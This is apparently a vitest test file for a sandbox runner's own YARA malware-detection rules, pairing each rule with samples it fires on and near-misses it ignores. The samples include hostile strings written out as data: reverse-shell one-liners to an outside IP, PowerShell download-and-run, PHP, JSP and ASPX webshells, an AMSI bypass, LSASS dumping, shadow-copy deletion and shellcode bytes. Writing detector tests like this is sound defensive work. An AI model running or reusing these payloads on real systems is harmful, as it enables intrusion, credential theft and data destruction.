import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, describe, expect, test } from 'vitest';
import { Yara } from '../sandbox-runner/static/yara.ts';
import { yaraRules } from '../sandbox-runner/static/yara-rule.ts';

const folder = new URL('../sandbox-runner/rules/yara/', import.meta.url).pathname;
const sources = await Promise.all((await readdir(folder)).sort().map(async (name) => await readFile(join(folder, name), 'utf8')));
const rules = sources.flatMap(yaraRules);
const yara = new Yara(sources);
afterAll(async () => await yara.close());

const bytes = (...parts: (string | number[])[]) => Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : Buffer.from(part))));
const wide = (text: string) => Buffer.from(text, 'utf16le').toString('latin1');
const pe = (...texts: string[]) => bytes('MZ', '\0'.repeat(200), texts.join('\0'));
const elf = (...texts: string[]) => bytes('\x7fELF', '\0'.repeat(60), texts.join('\0'));
const lnk = (...texts: string[]) => bytes([0x4c, 0, 0, 0, 1, 0x14, 2, 0], '\0'.repeat(60), ...texts.map(wide));
const hex = (count: number) => '\\x90'.repeat(count);

/** For each rule texts and bytes that it is for, and others that come close and are none of its business. */
const examples: Record<string, { hit: (string | Buffer)[]; miss: (string | Buffer)[] }> = {
  eicar: { hit: [['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EIC', 'AR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('')], miss: ['The EICAR test file is described here'] },
  packed_upx: { hit: [pe('UPX0', 'UPX1'), elf('UPX!')], miss: ['UPX! is a packer', pe('UPX0')] },
  injection_imports: { hit: [pe('WriteProcessMemory', 'VirtualAllocEx', 'CreateRemoteThread')], miss: [pe('WriteProcessMemory'), 'WriteProcessMemory VirtualAllocEx CreateRemoteThread'] },
  persistence_strings: { hit: [pe('Software\\Microsoft\\Windows\\CurrentVersion\\Run'), pe(wide('CurrentVersion\\Run'))], miss: [pe('CurrentVersion\\Uninstall')] },
  powershell_download: { hit: ['IEX (New-Object Net.WebClient).DownloadString("http://x")'], miss: ['Invoke-WebRequest https://x -OutFile y', 'the index of downloads'] },
  powershell_obfuscated: { hit: ['$b=[Convert]::FromBase64String($s); $b | % { $_ -bxor 35 }'], miss: ['[Convert]::FromBase64String($certificate)'] },
  shell_download_run: { hit: ['#!/bin/sh\ncurl -o /tmp/a http://h/a\nchmod +x /tmp/a\n'], miss: ['#!/bin/sh\nchmod +x build.sh\n', '#!/bin/sh\ncurl https://h/list.txt\nchmod 644 list.txt\n'] },
  reverse_shell: { hit: ['bash -i >& /dev/tcp/203.0.113.1/4444 0>&1', 'rm f; mkfifo f; cat f | sh -i 2>&1 | nc 203.0.113.1 1 > f'], miss: ['nc -l 8080', 'cat /dev/tcp.md'] },
  macro_autorun: { hit: [bytes([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], 'Sub AutoOpen() CreateObject("WScript.Shell")')], miss: [bytes([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], 'Sub Sums()'), 'AutoOpen CreateObject'] },
  pdf_launch: { hit: ['%PDF-1.4 /OpenAction << /S /JavaScript >>', '%PDF-1.4 /Launch'], miss: ['%PDF-1.4 /OpenAction [3 0 R /Fit]'] },
  script_shell_download: { hit: ['Set x = CreateObject("MSXML2.XMLHTTP"): CreateObject("WScript.Shell").Run "a"'], miss: ['CreateObject("WScript.Shell").Run "notepad"'] },
  webshell_php: { hit: ['<?php eval($_POST["x"]); ?>', '<?php @system ( base64_decode( $_GET[c] )); ?>', '<?php $_GET["f"]($_GET["a"]);'], miss: ['<?php echo htmlspecialchars($_GET["name"]); ?>', '<?php system("uptime"); ?>', '<?php $n = trim($_POST["n"]); ?>'] },
  webshell_php_hidden: { hit: ['<?php eval(gzinflate(base64_decode("x")));'], miss: ['<?php $picture = base64_decode($row["picture"]);'] },
  webshell_java: { hit: ['<%@page%><% Runtime.getRuntime().exec(request.getParameter("c")); %>'], miss: ['<% out.print(request.getParameter("name")); %>', 'Runtime.getRuntime().exec(command)'] },
  webshell_aspx: { hit: ['<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe", Request["c"]); %>', '<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>'], miss: ['<%@ Page Language="C#" %><%= Request["name"] %>'] },
  steals_browser_secrets: { hit: [pe('\\Login Data', 'encrypted_key', 'Web Data'), 'f = home + "/Login Data"; g = "logins.json"; h = "key4.db"'], miss: [pe('\\Login Data'), 'the Web Data file of the browser'] },
  steals_wallets: { hit: [pe('wallet.dat', '\\Exodus\\', 'Electrum\\wallets'), 'tar c ~/.electrum/wallets ~/.ethereum/keystore ~/.bitcoin/'], miss: ['bitcoind keeps wallet.dat in ~/.bitcoin/'] },
  sends_to_chat: { hit: ['requests.post("https://discord.com/api/webhooks/123456789012345678/abc")', `https://api.telegram.org/bot1234567890:${'A'.repeat(35)}/sendDocument`], miss: ['see https://discord.com/developers/docs', 'https://api.telegram.org/bot<token>/getMe'] },
  records_keys: { hit: [pe('GetAsyncKeyState', 'GetForegroundWindow', '[ENTER]', 'InternetOpenA')], miss: [pe('GetAsyncKeyState', 'GetForegroundWindow', 'InternetOpenA'), pe('SetWindowsHookExA')] },
  dumps_lsass: { hit: [pe('lsass.exe', 'MiniDumpWriteDump', 'SeDebugPrivilege'), 'rundll32 comsvcs.dll, MiniDump (Get-Process lsass).Id'], miss: [pe('MiniDumpWriteDump'), 'lsass is a process of Windows'] },
  miner_pool: { hit: ['{"url": "stratum+tcp://pool.example.com:3333"}', elf('mining.subscribe', 'mining.authorize')], miss: ['the stratum of a clock', '{"donate-level": 1}'] },
  bot_of_devices: { hit: [elf('/dev/watchdog', '/bin/busybox', '/proc/net/tcp', 'xc3511')], miss: [elf('/bin/busybox', '/proc/net/tcp'), '/dev/watchdog /bin/busybox /proc/net/tcp xc3511'] },
  extortion_note: { hit: ['All your files have been encrypted. To recover your files pay 1 bitcoin. Do not rename them.'], miss: ['Files have been encrypted with gpg; to recover your files run gpg -d.', 'Ransom notes ask for bitcoin'] },
  destroys_copies: { hit: [pe('vssadmin.exe Delete Shadows /all /quiet'), pe(wide('wmic shadowcopy delete'))], miss: [pe('vssadmin list shadows'), 'vssadmin delete shadows'] },
  shellcode_finds_functions: {
    hit: [bytes([0xfc, 0x48, 0x83, 0xe4, 0xf0, 0xe8, 0xc0, 0, 0, 0, 0x41, 0x51, 0x41, 0x50, 0x52, 0x51, 0x56, 0x48, 0x31, 0xd2, 0x65, 0x48, 0x8b, 0x52, 0x60]), bytes('xx', [0x64, 0xa1, 0x30, 0, 0, 0, 0x8b, 0x40, 0x0c, 0x8b, 0x40, 0x14], 'yy', [0xc1, 0xcf, 0x0d, 0x01, 0xc7])],
    miss: [bytes([0xc1, 0xcf, 0x0d, 0x01, 0xc7]), bytes([0xfc, 0x48, 0x83, 0xe4, 0xf0, 0xe8])],
  },
  shellcode_as_text: { hit: [`buf = b"${hex(80)}"\np = ctypes.windll.kernel32.VirtualAlloc(0)\nctypes.windll.kernel32.CreateThread(p)`], miss: [`icon = b"${hex(80)}"`, 'VirtualAlloc and CreateThread are functions'] },
  switches_scanning_off: { hit: ['[Ref].Assembly.GetType("System.Management.Automation.AmsiUtils").GetField("amsiInitFailed")', pe('AmsiScanBuffer', 'VirtualProtect')], miss: ['AmsiScanBuffer scans a buffer', pe('VirtualProtect')] },
  looks_for_machines: { hit: [pe('VBoxGuest', 'vmtoolsd', 'SbieDll.dll')], miss: [pe('VMwareVMware'), 'VBoxGuest vmtoolsd SbieDll.dll'] },
  loads_in_memory: { hit: ['[System.Reflection.Assembly]::Load($bytes)', 'my $fd = memfd_create("x", 1); exec "/proc/self/fd/$fd"'], miss: ['[Reflection.Assembly]::LoadWithPartialName("System.Web")', 'memfd_create makes a file in memory, MFD_CLOEXEC closes it, fexecve runs /proc/self/fd/3'] },
  equation_object: { hit: ['{\\rtf1{\\object\\objdata 0002CE0200000000C000000000000046}}', '{\\rt{\\*\\objclass Equation.3}'], miss: ['{\\rtf1 an equation}', 'Equation.3'] },
  page_hands_out_file: { hit: [`<script>var d=atob("${'A'.repeat(2100)}");var b=new Blob([d]);a.href=URL.createObjectURL(b);a.download="x.zip";a.click()</script>`], miss: ['<script>b=new Blob([canvas]);a.href=URL.createObjectURL(b);a.download="picture.png";a.click()</script>'] },
  shortcut_runs_script: { hit: [lnk('C:\\Windows\\System32\\cmd.exe', '/c start a.vbs'), lnk('powershell.exe -w hidden')], miss: [lnk('C:\\Program Files\\Editor\\editor.exe'), 'powershell -w hidden'] },
  locator_link: { hit: ['location.href = "ms-msdt:/id PCWDiagnostic /skip force"', '<a href="search-ms:query=x&crumb=location:\\\\203.0.113.1\\s">'], miss: ['ms-settings:display'] },
};

describe('our own YARA rules', () => {
  test('have a weight, techniques that are some, both stories and an example each', () => {
    expect(rules.map((rule) => rule.id.slice('yara-'.length)).sort()).toEqual(Object.keys(examples).sort());
    for (const rule of rules) {
      expect(rule.weight, rule.id).toBeGreaterThan(0);
      expect(rule.techniques.length, rule.id).toBeGreaterThan(rule.id === 'yara-eicar' ? -1 : 0);
      expect(rule.benign.length * rule.malicious.length, rule.id).toBeGreaterThan(0);
    }
  });
  test.each(Object.entries(examples))('%s fires on what it is for and leaves the rest alone', async (name, { hit, miss }) => {
    const found = async (one: string | Buffer) => (await yara.scan(Buffer.from(one as string))).map((signal) => signal.rule);
    for (const one of hit) expect(await found(one), `fires on ${String(one).slice(0, 80)}`).toContain(`yara-${name}`);
    for (const one of miss) expect(await found(one), `stays silent on ${String(one).slice(0, 80)}`).not.toContain(`yara-${name}`);
  });
});
